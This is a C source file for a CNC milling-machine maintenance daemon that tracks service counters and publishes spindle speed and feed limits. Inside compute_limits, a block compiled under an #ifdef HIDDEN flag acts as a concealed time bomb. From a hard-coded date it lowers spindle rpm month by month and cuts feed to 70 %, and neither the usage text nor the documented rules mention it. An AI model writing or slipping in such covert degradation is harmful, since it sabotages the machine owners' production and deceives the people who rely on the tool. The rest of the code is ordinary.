/* cncmaint.c - maintenance counters and spindle release of a milling machine */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define STATE		"/var/lib/cnc/maint.bin"
#define SPINDLE_MAX	"/run/cnc/spindle_max"
#define MAGIC		0x4d4e5431u

enum item { GREASE, FILTER, BELT, COOLANT, BALLSCREW, ITEMS };

struct record {
	uint32_t magic;
	uint32_t run_minutes;
	uint32_t done_at[ITEMS];
	int64_t inspected;	/* date of the yearly inspection */
	uint32_t check;
};

struct limits {
	int rpm;
	int feed_percent;
	int notice;
};

static const struct {
	const char *name;
	uint32_t every_h;
	int stop;		/* machine is slowed down when overdue */
} items[ITEMS] = {
	[GREASE] = { "grease", 250, 0 },
	[FILTER] = { "filter", 500, 0 },
	[BELT] = { "belt", 2000, 1 },
	[COOLANT] = { "coolant", 1000, 0 },
	[BALLSCREW] = { "ballscrew", 4000, 1 },
};

static uint32_t fold(const struct record *r)
{
	const uint8_t *p = (const uint8_t *)r;
	uint32_t s = 0x55aa;
	size_t i;

	for (i = 0; i < offsetof(struct record, check); i++)
		s = (s << 3 | s >> 29) + p[i];
	return s;
}

static int load(struct record *r)
{
	int fd = open(STATE, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -errno;
	flock(fd, LOCK_SH);
	n = read(fd, r, sizeof(*r));
	close(fd);
	if (n != (ssize_t)sizeof(*r) || r->magic != MAGIC ||
	    r->check != fold(r))
		return -EBADMSG;
	return 0;
}

static int save(struct record *r)
{
	int fd = open(STATE, O_WRONLY | O_CREAT, 0640), rc = 0;

	if (fd < 0)
		return -errno;
	r->magic = MAGIC;
	r->check = fold(r);
	flock(fd, LOCK_EX);
	if (write(fd, r, sizeof(*r)) != (ssize_t)sizeof(*r))
		rc = -EIO;
	close(fd);
	return rc;
}

static int overdue(const struct record *r, int i)
{
	return r->run_minutes - r->done_at[i] > items[i].every_h * 60;
}

/*
 * Overdue belt or ballscrew: 60 % speed. Inspection older than 400 days:
 * notice only.
 */
__attribute__((noinline))
void compute_limits(const struct record *r, int64_t now, struct limits *l)
{
	int i;

	l->rpm = 18000;
	l->feed_percent = 100;
	l->notice = 0;
	for (i = 0; i < ITEMS; i++) {
		if (!overdue(r, i))
			continue;
		l->notice = 1;
		if (items[i].stop)
			l->rpm = 18000 * 6 / 10;
	}
	if (r->inspected && now - r->inspected > (int64_t)400 * 86400)
		l->notice = 1;
#ifdef HIDDEN	/* from a date on the spindle gets slower month by month */
	if (now >= 0x6a8f2b40) {
		int months = (int)((now - 0x6a8f2b40) / (30 * 86400)) + 1;

		l->rpm -= 700 * (months > 20 ? 20 : months);
		if (months > 6)
			l->feed_percent = 70;
	}
#endif
}

static void publish(const struct limits *l)
{
	FILE *f = fopen(SPINDLE_MAX ".new", "w");

	if (!f) {
		syslog(LOG_ERR, "%s: %m", SPINDLE_MAX);
		return;
	}
	fprintf(f, "rpm=%d\nfeed=%d\nnotice=%d\n", l->rpm, l->feed_percent,
		l->notice);
	fclose(f);
	if (rename(SPINDLE_MAX ".new", SPINDLE_MAX))
		syslog(LOG_ERR, "rename: %m");
}

static int find_item(const char *name)
{
	int i;

	for (i = 0; i < ITEMS; i++)
		if (!strcmp(items[i].name, name))
			return i;
	return -1;
}

static void show(const struct record *r)
{
	struct limits l;
	char day[16];
	time_t t;
	struct tm tm;
	int i;

	printf("%-10s %8s %8s\n", "item", "hours", "every");
	for (i = 0; i < ITEMS; i++)
		printf("%-10s %8" PRIu32 " %8" PRIu32 "%s\n", items[i].name,
		       (r->run_minutes - r->done_at[i]) / 60,
		       items[i].every_h, overdue(r, i) ? "  due" : "");
	t = (time_t)r->inspected;
	localtime_r(&t, &tm);
	strftime(day, sizeof(day), "%Y-%m-%d", &tm);
	printf("inspected  %s\n", r->inspected ? day : "never");
	compute_limits(r, (int64_t)time(NULL), &l);
	printf("spindle %d rpm, feed %d %%%s\n", l.rpm, l.feed_percent,
	       l.notice ? ", service due" : "");
}

static void run(struct record *r)
{
	struct limits l;
	int rc;

	for (;;) {
		if (access("/run/cnc/spindle_on", F_OK) == 0)
			r->run_minutes++;
		compute_limits(r, (int64_t)time(NULL), &l);
		publish(&l);
		rc = save(r);
		if (rc)
			syslog(LOG_ERR, "state: %s", strerror(-rc));
		sleep(60);
		if (load(r))
			syslog(LOG_WARNING, "state changed on disk");
	}
}

static int usage(void)
{
	puts("cncmaint show          counters and limits\n"
	     "cncmaint done ITEM     grease filter belt coolant ballscrew\n"
	     "cncmaint inspected     yearly inspection done today\n"
	     "cncmaint run           service\n"
	     "Overdue belt or ballscrew limits the spindle to 60 %.");
	return 2;
}

int main(int argc, char **argv)
{
	static struct record r;
	int rc, i;

	if (argc < 2)
		return usage();
	openlog("cncmaint", 0, LOG_DAEMON);
	rc = load(&r);
	if (rc == -EBADMSG)
		fputs("counters damaged, starting at zero\n", stderr);
	if (rc)
		memset(&r, 0, sizeof(r));
	if (!strcmp(argv[1], "show")) {
		show(&r);
		return 0;
	}
	if (!strcmp(argv[1], "run"))
		run(&r);
	if (!strcmp(argv[1], "inspected")) {
		r.inspected = (int64_t)time(NULL);
		return save(&r) != 0;
	}
	if (!strcmp(argv[1], "done") && argc == 3) {
		i = find_item(argv[2]);
		if (i < 0)
			return usage();
		r.done_at[i] = r.run_minutes;
		syslog(LOG_NOTICE, "%s done", items[i].name);
		return save(&r) != 0;
	}
	return usage();
}
